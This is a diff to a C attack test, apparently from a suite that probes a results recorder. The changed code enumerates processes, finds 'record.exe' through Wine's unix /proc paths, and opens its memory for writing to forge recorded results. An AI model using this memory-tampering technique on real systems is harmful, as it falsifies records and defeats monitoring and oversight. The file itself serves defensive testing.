@@ -2,7 +2,7 @@
 // defence: none where the recorder shares the session: it can be forged, and results say
 //     in-session
 // outcome: failed
-// prints: written [1-9]
+// prints: written [01]\b
 // until: native recorder: it is not in the session
 
 #include "hostile.h"
@@ -13,9 +13,10 @@ static void attack(void *base, size_t first, size_t count) {
     (void)base, (void)first, (void)count;
 
     int written = 0;
-    for (int pid = 1; pid < 64; pid++) {
+    int pids[PIDS_MOST], known = all_pids(pids);
+    for (int i = 0; i < known; i++) {
         char path[64], text[4096] = "";
-        snprintf(path, sizeof path, "\\\\?\\unix\\proc\\%d\\cmdline", pid);
+        snprintf(path, sizeof path, "\\\\?\\unix\\proc\\%d\\cmdline", pids[i]);
         HANDLE line = CreateFileA(path, GENERIC_READ, 7, NULL, OPEN_EXISTING, 0, NULL);
         DWORD got = 0;
         ReadFile(line, text, sizeof text - 1, &got, NULL);
@@ -23,7 +24,7 @@ static void attack(void *base, size_t first, size_t count) {
         if (!strstr(text, "record.exe"))
             continue;
         // Its own image, at the base that it was linked for: the byte is written as it is.
-        snprintf(path, sizeof path, "\\\\?\\unix\\proc\\%d\\mem", pid);
+        snprintf(path, sizeof path, "\\\\?\\unix\\proc\\%d\\mem", pids[i]);
         HANDLE memory =
             CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 7, NULL, OPEN_EXISTING, 0, NULL);
         OVERLAPPED at = {.Offset = 0x40000000, .OffsetHigh = 1};
